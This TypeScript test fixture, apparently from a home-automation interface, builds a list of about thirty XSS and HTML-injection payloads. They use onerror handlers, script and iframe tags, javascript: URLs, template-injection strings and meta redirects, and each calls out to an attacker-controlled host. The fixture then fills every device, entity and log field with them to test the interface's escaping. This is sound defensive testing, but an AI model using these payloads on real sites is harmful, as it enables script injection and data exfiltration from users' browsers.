import { smallHouse } from "#demo/testing.ts";

/** What a device could call itself so that a page runs it, loads it or is led away by it; `host` is where an attacker listens. */
export function markup(host: string): string[] {
  const run = `window.ran=1;fetch('http://${host}/x')`;
  return [
    `<img src=x onerror="${run}">`,
    `<script>${run}</script>`,
    `<script src="http://${host}/s.js"></script>`,
    `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s>`,
    `"><img src=x onerror="${run}">`,
    `'><svg/onload=${run}>`,
    `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
    `' onclick='${run}' y='`,
    `javascript:${run}`,
    `<a href="javascript:${run}">open</a>`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<iframe src="http://${host}/f"></iframe>`,
    `<object data="http://${host}/o"></object><embed src="http://${host}/e">`,
    `<style>*{background:url(http://${host}/c)}</style>`,
    `<link rel="stylesheet" href="http://${host}/l.css">`,
    `<meta http-equiv="refresh" content="0;url=http://${host}/m">`,
    `<base href="http://${host}/">`,
    `<form action="http://${host}/f"><input autofocus onfocus="${run}"></form>`,
    `<details open ontoggle="${run}"><summary>s</summary></details>`,
    `<video><source onerror="${run}"></video><audio src=x onerror="${run}">`,
    `<template shadowrootmode="open"><script>${run}</script></template>`,
    `<math><mtext><mglyph><style><img src=x onerror="${run}">`,
    `--><img src=x onerror="${run}"><!--`,
    `]]><img src=x onerror="${run}">`,
    `</title></textarea></option></select><img src=x onerror="${run}">`,
    `\${${run}}`,
    `{{constructor.constructor("${run}")()}}`,
    `?{{lit$1$}}?<img src=x onerror="${run}">`,
    `&lt;img src=x onerror=${run}&gt;&#60;script&#62;${run}&#60;/script&#62;`,
    `\u202e<img src=x onerror="${run}">\u202c`,
    `<homeops-page></homeops-page><homeops-explain open>`,
    `#/kept?home=2&<img src=x onerror="${run}">`,
  ];
}

/** A home in which everything that somebody outside could write is markup. */
export const markedHouse = (texts: readonly string[]) =>
  smallHouse({
    areas: texts.map((text, n) => ({ id: `area_${n}`, name: text, floor: null, aliases: [text] })),
    integrations: [{ id: "ce-mqtt", domain: "mqtt", title: texts[0], state: "loaded" }],
    devices: texts.map((text, n) => ({ id: `d-${n}`, name: text, area: `area_${n}`, integration: "ce-mqtt" })),
    automations: texts.map((text, n) => ({
      entity_id: `automation.a_${n}`,
      id: `${n}`,
      name: text,
      config: { alias: text },
    })),
    entities: texts.flatMap((text, n) => [
      { entity_id: `light.lamp_${n}`, name: text, aliases: [text], device: `d-${n}`, state: "off" },
      {
        ...{ entity_id: `sensor.number_${n}`, name: text, device: `d-${n}`, state: String(n) },
        attributes: { unit_of_measurement: text, device_class: "temperature", state_class: "measurement" },
      },
      {
        entity_id: `select.mode_${n}`,
        name: text,
        state: text.slice(0, 255),
        attributes: { options: texts, note: text },
      },
    ]),
    timeline: texts.flatMap((text, n) => [
      { at: `-1d ${clock(n)}`, entity_id: `light.lamp_${n}`, state: "on", attributes: { effect: text } },
      { at: `-1d ${clock(n)}`, entity_id: `sensor.number_${n}`, state: String(n + 1) },
      { at: `-1d ${clock(n)}`, event: "mqtt_note", data: { message: text } },
      { at: `-1d ${clock(n)}`, log: { level: "ERROR", logger: "homeassistant.mqtt", message: text } },
    ]),
  });

const clock = (n: number): string =>
  `${String(8 + Math.floor(n / 60)).padStart(2, "0")}:${String(n % 60).padStart(2, "0")}:00`;
